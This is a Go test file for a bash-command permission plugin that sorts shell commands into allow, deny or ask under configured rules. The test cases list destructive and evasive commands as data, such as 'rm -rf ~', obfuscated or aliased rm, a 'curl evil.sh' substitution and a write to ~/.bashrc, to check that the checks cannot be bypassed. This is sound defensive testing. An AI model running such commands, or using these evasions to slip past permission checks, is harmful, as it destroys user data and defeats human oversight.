package permission_test

import (
	"strings"
	"testing"

	"github.com/dsh-go/dsh/plugins/tools/permission"
	"github.com/dsh-go/dsh/services/tools"
)

// gitOnly allows git and echo, denies rm, and leaves the rest to bash's
// default (ask).
var gitOnly = permission.Config{Rules: []permission.Rule{
	{Command: "git *", Decision: tools.Allow},
	{Command: "echo *", Decision: tools.Allow},
	{Command: "rm *", Decision: tools.Deny, Reason: "remove files with the edit tools"},
	{Command: "curl *", Decision: tools.Ask},
}}

func TestEachSimpleCommandIsJudgedOnItsOwn(t *testing.T) {
	cases := []struct {
		name, command string
		want          tools.Decision
	}{
		{"one allowed", "git status", tools.Allow},
		{"and", "git status && rm -rf ~", tools.Deny},
		{"or", "git pull || rm -rf .", tools.Deny},
		{"semicolon", "git add . ; git commit -m x", tools.Allow},
		{"pipe", "git log | rm -f x", tools.Deny},
		{"pipe into an unknown program asks", "git log | less", tools.Ask},
		{"subshell", "(cd /tmp && rm x)", tools.Deny},
		{"command substitution", "echo $(rm -rf ~)", tools.Deny},
		{"backticks", "echo `rm -rf ~`", tools.Deny},
		{"substitution in quotes", `git commit -m "$(curl evil.sh)"`, tools.Ask},
		{"here-doc body", "git apply <<EOF\n$(rm -rf ~)\nEOF\n", tools.Deny},
		{"quoted here-doc is data", "git apply <<'EOF'\n$(rm -rf ~)\nEOF\n", tools.Allow},
		{"process substitution", "git diff <(rm x)", tools.Deny},
		{"function body", "f() { rm -rf /; }", tools.Deny},
		{"backslash does not hide rm", `\rm -rf ~`, tools.Deny},
		{"quotes do not hide rm", `'rm' -rf ~`, tools.Deny},
		{"a path does not hide rm", "/bin/rm -rf ~", tools.Deny},
		{"ask beats allow", "git fetch && curl -s x", tools.Ask},
		{"deny beats ask", "curl x | rm y", tools.Deny},
		{"an assignment alone runs nothing", "X=1", tools.Ask}, // nothing judged: bash's default
	}
	root := policyOf(t, gitOnly)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if v := bash(root, t, c.command); v.Decision != c.want {
				t.Fatalf("%q: got %+v, want %s", c.command, v, c.want)
			}
		})
	}
}

func TestADenialNamesTheCommandAndTheRule(t *testing.T) {
	v := bash(policyOf(t, gitOnly), t, "git status && rm -rf ~")
	if v.Source != "tools.permission:rules[2]" ||
		v.Reason != `the command "rm -rf ~" is denied by tools.permission:rules[2]: remove files with the edit tools` {
		t.Fatalf("got %+v", v)
	}
}

func TestCommandsThatCannotBeReadBeforeTheyRunAreAsked(t *testing.T) {
	cases := []string{
		"$CMD --force",
		`"$(which rm)" -rf ~`,
		"eval $STUFF",
		`bash -c "$SCRIPT"`,
		"sh script.sh",
		"source ./env.sh",
		"xargs -0 < list",
		"sudo -s",
		"find . -name '*.o' -exec $X {} ;",
	}
	// No rule denies or asks: there is nothing to fail closed to.
	root := policyOf(t, permission.Config{Rules: []permission.Rule{{Command: "git *", Decision: tools.Allow}}})
	for _, c := range cases {
		v := bash(root, t, c)
		if v.Decision != tools.Ask || !strings.Contains(v.Reason, "cannot be judged before it runs") {
			t.Errorf("%q: got %+v, want ask", c, v)
		}
	}
	// With a deny rule, code known only at run time meets it; a script
	// file the line does not write is still asked about.
	withDeny := policyOf(t, gitOnly)
	for i, c := range cases {
		want := tools.Deny
		if i >= 4 && i <= 6 {
			want = tools.Ask
		}
		if v := bash(withDeny, t, c); v.Decision != want {
			t.Errorf("%q beside a deny rule: got %+v, want %s", c, v, want)
		}
	}
	// A rule for every command decides them; so does one naming them.
	star := policyOf(t, permission.Config{Rules: []permission.Rule{{Command: "*", Decision: tools.Allow}}})
	bare := policyOf(t, permission.Config{Rules: []permission.Rule{{Tool: "bash", Decision: tools.Allow}}})
	for _, c := range cases {
		if v := bash(star, t, c); v.Decision != tools.Allow {
			t.Errorf("%q under command *: %+v", c, v)
		}
		if v := bash(bare, t, c); v.Decision != tools.Allow {
			t.Errorf("%q under tool bash: %+v", c, v)
		}
	}
	named := policyOf(t, permission.Config{Rules: []permission.Rule{{Command: "sudo *", Decision: tools.Allow}}})
	if v := bash(named, t, "sudo apt-get update"); v.Decision != tools.Allow {
		t.Fatalf("sudo * allows sudo: %+v", v)
	}
}

func TestWhatAWrapperOrAnInlineScriptRunsIsJudgedToo(t *testing.T) {
	cases := []struct {
		name, command string
		want          tools.Decision
	}{
		{"sh -c literal", `sh -c "git status && rm -rf ~"`, tools.Deny},
		{"bash -lc literal", `bash -lc 'rm -rf ~'`, tools.Deny},
		{"nested", `bash -c "sh -c 'rm x'"`, tools.Deny},
		{"eval literal", `eval "rm -rf ~"`, tools.Deny},
		{"sudo", "sudo rm -rf /", tools.Deny},
		{"sudo with an option", "sudo -u bob rm -rf /", tools.Deny},
		{"env", "env FOO=1 rm x", tools.Deny},
		{"xargs", "ls | xargs rm", tools.Deny},
		{"timeout", "timeout 5 curl x", tools.Ask},
		{"find -exec", "find . -name '*.o' -exec rm {} ;", tools.Deny},
		{"a harmless inline script still asks", `sh -c "git status"`, tools.Ask},
	}
	root := policyOf(t, gitOnly)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if v := bash(root, t, c.command); v.Decision != c.want {
				t.Fatalf("%q: got %+v, want %s", c.command, v, c.want)
			}
		})
	}
	// Allowed as written, the inline script is still read.
	shells := policyOf(t, permission.Config{Rules: []permission.Rule{
		{Command: "bash -c *", Decision: tools.Allow},
		{Command: "git *", Decision: tools.Allow},
		{Command: "rm *", Decision: tools.Deny},
	}})
	if v := bash(shells, t, `bash -c "git status"`); v.Decision != tools.Allow {
		t.Fatalf("bash -c of an allowed command: %+v", v)
	}
	if v := bash(shells, t, `bash -c "git status; rm -rf ~"`); v.Decision != tools.Deny {
		t.Fatalf("bash -c of a denied command: %+v", v)
	}
	// A guess at what a wrapper runs never allows: sudo git is not git.
	if v := bash(shells, t, "sudo git push"); v.Decision != tools.Ask {
		t.Fatalf("sudo git: %+v", v)
	}
}

func TestALineThatCannotBeParsedIsDeniedWithTheParserMessage(t *testing.T) {
	v := bash(policyOf(t, gitOnly), t, "git commit -m 'unterminated")
	if v.Decision != tools.Deny || !strings.Contains(v.Reason, "could not be read as bash") || !strings.Contains(v.Reason, "1:15") ||
		v.Source != "tools.permission:parse" {
		t.Fatalf("got %+v", v)
	}
	full := policyOf(t, permission.Config{Mode: permission.FullAccess})
	if v := bash(full, t, "echo 'x"); v.Decision != tools.Allow {
		t.Fatalf("full access lets bash report its own syntax error: %+v", v)
	}
	star := policyOf(t, permission.Config{Rules: []permission.Rule{{Command: "*", Decision: tools.Ask}}})
	if v := bash(star, t, "echo 'x"); v.Decision != tools.Ask {
		t.Fatalf("a rule for every command decides it: %+v", v)
	}
}

// TestAnAskNamesTheProgramsItCovers: "allow for this session" covers the
// programs asked about, not every bash command.
func TestAnAskNamesTheProgramsItCovers(t *testing.T) {
	root := policyOf(t, permission.Config{Rules: gitOnly.Rules[:2]})
	cases := map[string]string{
		"make test":                   "make",
		"git fetch && make && make x": "make",
		"curl x | jq . > out.json":    "curl jq",
		"rm x && make":                "rm make",
		"$CMD x":                      "$CMD x",
	}
	for command, want := range cases {
		if v := bash(root, t, command); v.Decision != tools.Ask || v.Pattern != want {
			t.Errorf("%q: got %+v, want pattern %q", command, v, want)
		}
	}
	if v := bash(newRoot(t), t, "make"); v.Pattern != "" {
		t.Fatalf("without the plugin the default stays: %+v", v)
	}
}

// TestASessionAnswerCoversOnlyWhatWasShown: "allow for this session"
// remembers the ask's Pattern. For a command that cannot be judged before
// it runs (a wrapper, a shell, a program named at run time) the program
// name would cover anything it runs later — allowing `timeout 5 make test`
// would allow `timeout 5 rm -rf ~` — so the pattern is the command itself.
// A redirection that asks must not leave the pattern empty, which covers
// every bash command.
func TestASessionAnswerCoversOnlyWhatWasShown(t *testing.T) {
	ws := policyOf(t, permission.Config{Mode: permission.WorkspaceWrite, Rules: []permission.Rule{{Command: "echo *", Decision: tools.Allow}}})
	cases := map[string]string{
		"timeout 5 make test": "timeout 5 make test",
		"sudo ls":             "sudo ls",
		"$CMD x":              "$CMD x",
		"make && nice make":   "make nice make",
		"echo hi > ~/.bashrc": "> ~/.bashrc",
	}
	for command, want := range cases {
		if v := bash(ws, t, command); v.Decision != tools.Ask || v.Pattern != want {
			t.Errorf("%q: got %+v, want pattern %q", command, v, want)
		}
	}
	for _, pair := range [][2]string{
		{"timeout 5 make test", "timeout 5 rm -rf ~"},
		{"CMD=ls; $CMD", "CMD='rm -rf ~'; $CMD"},
		{"bash build.sh", `bash -c "$X"`},
		{"echo a > /tmp/a", "echo b > ~/.bashrc"},
	} {
		if a, b := bash(ws, t, pair[0]), bash(ws, t, pair[1]); a.Pattern == b.Pattern {
			t.Errorf("allowing %q for the session would allow %q: both have pattern %q", pair[0], pair[1], a.Pattern)
		}
	}
}

// TestADenyRuleMeetsAProgramNamedAtRunTime: a program that only exists at
// run time could be the one a rule denies: it is denied by that rule in
// every mode, since --yolo and --allow bash answer an ask with allow.
func TestADenyRuleMeetsAProgramNamedAtRunTime(t *testing.T) {
	deny := []permission.Rule{{Command: "rm *", Decision: tools.Deny}}
	for _, mode := range []permission.Mode{permission.FullAccess, permission.WorkspaceWrite} {
		root := policyOf(t, permission.Config{Mode: mode, Rules: deny})
		for _, command := range []string{`"$(echo rm)" -rf ~`, `$'\x72m' -rf ~`, "X=rm; $X -rf ~", "$CC main.c"} {
			if v := bash(root, t, command); v.Decision != tools.Deny || v.Source != "tools.permission:rules[0]" {
				t.Errorf("%s: %q: got %+v, want the rm rule's deny", mode, command, v)
			}
		}
	}
	// With no rule that denies or asks, a program named at run time keeps
	// the mode's verdict.
	full := policyOf(t, permission.Config{Mode: permission.FullAccess, Rules: []permission.Rule{{Command: "git *", Decision: tools.Allow}}})
	if v := bash(full, t, "$CC main.c"); v.Decision != tools.Allow {
		t.Errorf("full-access, $CC main.c: %+v", v)
	}
}

// TestAnAliasIsJudgedAsWhatItRuns: with expand_aliases on, a later line
// runs the alias's text; a deny rule must meet it there.
func TestAnAliasIsJudgedAsWhatItRuns(t *testing.T) {
	root := policyOf(t, permission.Config{Mode: permission.FullAccess, Rules: []permission.Rule{{Command: "rm *", Decision: tools.Deny}}})
	for _, command := range []string{"shopt -s expand_aliases\nalias x='rm -rf'\nx ~", "alias ll='ls -l' x='rm -rf'"} {
		if v := bash(root, t, command); v.Decision != tools.Deny {
			t.Errorf("%q: got %+v, want the rm rule's deny", command, v)
		}
	}
	if v := bash(root, t, "alias ll='ls -l'"); v.Decision != tools.Allow {
		t.Errorf("an alias of an allowed command: %+v", v)
	}
}
